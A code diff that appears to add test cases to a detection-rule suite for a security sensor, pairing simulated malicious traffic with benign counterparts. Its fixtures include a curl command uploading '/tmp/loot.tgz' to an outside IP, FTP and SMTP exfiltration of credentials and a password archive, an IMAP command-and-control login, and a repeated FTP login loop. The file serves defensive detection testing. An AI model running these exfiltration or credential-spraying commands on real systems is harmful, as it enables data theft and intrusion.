@@ -20,6 +20,14 @@ const mail = (s: Sim, dialogue: string): void => {
   s.connect(1, address, 25, -115);
   s.caughtMail(address, 25, dialogue);
 };
+/** One process logs in to the FTP servers of `n` names, one after the other. */
+const ftpLogins = (s: Sim, n: number): void => {
+  for (let i = 0; i < n; i++) {
+    const address = s.lookup(`ftp${i}.example.test`);
+    s.connect(1, address, 21, -115);
+    s.caughtFtp(address, 21, 'USER admin\r\nPASS admin\r\nQUIT\r\n');
+  }
+};
 const b64 = (s: string): string => Buffer.from(s).toString('base64');
 const http = (method: string, path: string, host: string, body = ''): string =>
   `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Mozilla/5.0\r\n${body ? `Content-Length: ${body.length}\r\n` : ''}\r\n${body}`;
@@ -168,6 +176,9 @@ export const CASES: RuleCase[] = [
     benign: (s) => mail(s, 'EHLO bot\r\nQUIT\r\n') },
   { id: 'ST-EXF-004', trigger: (s) => s.caughtFtp(s.lookup('ftp.example.test'), 21, 'USER ops\r\nPASS pw\r\nTYPE I\r\nPASV\r\nSTOR PW_devbox_2026.zip\r\nQUIT\r\n'),
     benign: (s) => s.caughtFtp(s.lookup('ftp.example.test'), 21, 'USER anonymous\r\nPASS guest\r\nPASV\r\nRETR pub/readme.txt\r\nQUIT\r\n') },
+  { id: 'ST-C2-017', trigger: (s) => { const a = s.lookup('imap.example.test'); s.connect(1, a, 143, -115); s.caughtMailbox(a, 143, 'imap', 'a1 CAPABILITY\r\na2 LOGIN "orders@example.test" "pw 1"\r\na3 SELECT INBOX\r\n'); },
+    benign: (s) => { const a = s.lookup('imap.example.test'); s.connect(1, a, 143, -115); s.caughtMailbox(a, 143, 'imap', 'a1 CAPABILITY\r\na2 LOGOUT\r\n'); } },
+  { id: 'ST-CRD-013', trigger: (s) => ftpLogins(s, 10), benign: (s) => ftpLogins(s, 9) },
   { id: 'ST-EXF-003', trigger: (s) => mail(s, `EHLO pc\r\nAUTH LOGIN\r\n${b64('logs@mail.example.test')}\r\n${b64('hunter2')}\r\nQUIT\r\n`),
     benign: (s) => mail(s, 'EHLO pc\r\nAUTH CRAM-MD5\r\nMAIL FROM:<a@example.test>\r\nRCPT TO:<b@example.test>\r\nDATA\r\n\r\nhi\r\n.\r\n') },
   { id: 'ST-EXF-001', trigger: (s) => s.run('/usr/bin/curl', ['curl', '-T', '/tmp/loot.tgz', 'http://203.0.113.9/up']), benign: (s) => s.run('/usr/bin/curl', ['curl', '-o', 'x', 'http://203.0.113.9/x']) },
